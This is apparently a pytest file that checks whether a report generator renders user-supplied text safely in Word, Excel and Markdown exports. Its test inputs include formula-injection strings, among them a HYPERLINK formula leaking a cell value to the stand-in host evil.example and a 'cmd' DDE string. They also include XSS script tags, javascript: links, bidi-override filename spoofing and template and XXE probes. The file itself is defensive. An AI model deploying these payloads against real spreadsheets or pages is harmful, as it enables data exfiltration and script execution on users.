"""What somebody writes into a folder stays words on every editable face: no formula, no markup, no repair."""

from __future__ import annotations

import io
import json
import re
import shutil
import zipfile
from dataclasses import replace
from itertools import cycle
from pathlib import Path

import pytest
from docx import Document
from lxml import etree
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from openxml_audit import OpenXmlValidator

from readiness import services
from readiness.resources import examples
from readiness.services import faces
from readiness.services.editable import render_editable

LONG = "An endless title 字 " * 600
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3|x|y",
    '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>",
    "`code` **bold** _it_ ~~gone~~ \\ # no heading &lt;b&gt; &#60;",
    "turned \u202egnp.exe\u202c and \u2067isolated\u2069",
    "a smile \U0001f600 and more",
    "{{7*7}} {0.__class__} {% raw %}",
    "]]> <!-- --> <?xml?> &xxe;",
)
EVIL = re.compile("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def written(words: str) -> str:
    """Return words as YAML can hold them: in quotation marks, with escapes."""
    told = json.dumps(words, ensure_ascii=False)  # YAML knows no pairs of surrogates
    return EVIL.sub(lambda found: f"\\u{ord(found[0]):04x}", told)


@pytest.fixture(scope="module")
def bare(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bare")
    (folder / "engagement.yaml").write_text(
        "format: engagement/1\nid: bare\ntitle: Bare\nas_of: 2026-01-15\nprogramme: {status: exploring}\n"
    )
    return services.assess(folder)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Put a hostile text into every place where a person may write, and a title of 12,000 characters."""
    boise = Path(shutil.copytree(examples() / "boise-office", tmp_path_factory.mktemp("h") / "case"))
    texts = cycle(HOSTILE)
    for path in (boise / "touchmap.yaml", boise / "rollout.yaml", *sorted(boise.glob("responses/*.yaml"))):
        text = path.read_text(encoding="utf-8")
        pattern = r"^(\s*(?:- )?(?:title|FQ-5|comment|ref)): [^\s{>|].*$"
        text = re.sub(pattern, lambda found: f"{found[1]}: {written(next(texts))}", text, flags=re.MULTILINE)
        path.write_text(text, encoding="utf-8")
    path = boise / "engagement.yaml"
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"^title:\n(?:  .*\n)+", lambda _: f"title: {written(LONG)}\n", text, flags=re.MULTILINE)
    path.write_text(text, encoding="utf-8")
    checked = services.check(boise)
    assert not checked.errors, [told for told in checked.told if told.severity == "error"]
    return faces.complete(services.assess(boise))


def audit(tmp_path, octets, suffix):
    file = tmp_path / f"report{suffix}"
    file.write_bytes(octets)
    return [one for one in OpenXmlValidator().validate(file).errors if "/fonts[" not in one.path]


def test_word_holds_them_as_words(hostile):
    octets = render_editable(hostile.view, hostile.phrases, ".docx")
    archive = zipfile.ZipFile(io.BytesIO(octets))
    for name in archive.namelist():
        if name.endswith((".xml", ".rels")):
            etree.fromstring(archive.read(name))
    told = "\n".join(
        text for text in etree.fromstring(archive.read("word/document.xml")).itertext() if text.strip()
    )
    assert "<script>alert(1)</script>" in told
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in told
    assert not EVIL.search(told)
    assert "External" not in archive.read("word/_rels/document.xml.rels").decode()
    word = Document(io.BytesIO(octets))
    assert len(word.core_properties.title) == 255
    assert any(len(p.text) > 10_000 for p in word.paragraphs if p.style.name == "Title")


@pytest.mark.long
def test_neither_program_has_to_repair_them(hostile, bare, tmp_path):
    for assessed in (hostile, bare):
        for suffix in (".docx", ".xlsx"):
            found = audit(tmp_path, render_editable(assessed.view, assessed.phrases, suffix), suffix)
            assert [one for one in found if "inline-string" not in one.description] == []


def test_excel_holds_them_as_texts(hostile):
    octets = render_editable(hostile.view, hostile.phrases, ".xlsx")
    book = load_workbook(io.BytesIO(octets))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert all(re.match(r"=(SUMIFS\(|SUM\(B|ABS\(C|[EFGIM(]\d*)", cell.value) for cell in formulas)
    assert not [cell for cell in formulas if "HYPERLINK" in cell.value or "cmd" in cell.value]
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value[0] in "=+-@"]
    texts = [cell for cell in risky if cell.data_type == "s"]
    assert any("HYPERLINK" in cell.value for cell in texts)
    assert len(texts) + len(formulas) == len(risky)
    assert all(cell.quotePrefix for cell in texts)
    assert not [cell for cell in cells if EVIL.search(str(cell.value))]
    assert all(cell.hyperlink is None for cell in cells)


def test_markdown_holds_them_as_words(hostile):
    text = render_editable(hostile.view, hostile.phrases, ".md").decode()
    assert not EVIL.search(text)
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    inner = [child for token in tokens for child in token.children or ()]
    kinds = {token.type for token in (*tokens, *inner)}
    assert not kinds & {
        "html_block", "html_inline", "link_open", "image", "code_inline", "em_open", "s_open", "fence",
        "code_block", "ordered_list_open",
    }  # fmt: skip
    shown = "\n".join(child.content for child in inner if child.type == "text")
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in shown
    assert "`code` **bold** _it_ ~~gone~~" in shown
    assert "&lt;b&gt; &#60;" in shown
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert rows
    widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
    assert max(widths) < 12


@pytest.mark.parametrize("suffix", [".docx", ".xlsx", ".md"])
def test_characters_that_files_forbid_become_a_mark(bare, suffix):
    """Reading a folder refuses them; a face does not rely on it."""
    view = replace(bare.view, title="one\x01two\x0bthree\ufffefour\nfive\u2028six\ud800", own_actions=())
    octets = render_editable(view, bare.phrases, suffix)
    if suffix == ".docx":
        told = Document(io.BytesIO(octets)).paragraphs[0].text
    elif suffix == ".xlsx":
        told = load_workbook(io.BytesIO(octets))["Summary"]["B2"].value.replace("\n", " ")  # lines of a cell
    else:
        told = octets.decode().splitlines()[0]
    assert told.removeprefix("# ") == "one\ufffdtwo\ufffdthree\ufffdfour five six\ufffd"


def test_a_bare_folder_has_every_face(bare):
    assert render_editable(bare.view, bare.phrases, ".md").startswith(b"# Bare\n")
    book = load_workbook(io.BytesIO(render_editable(bare.view, bare.phrases, ".xlsx")))
    assert book["Verdicts"]["F2"].value.startswith("=SUMIFS")
    assert book["Verdicts"]["G2"].value is None  # nothing is known, so that there is nothing to divide by
    word = Document(io.BytesIO(render_editable(bare.view, bare.phrases, ".docx")))
    assert word.paragraphs[0].text == "Bare"
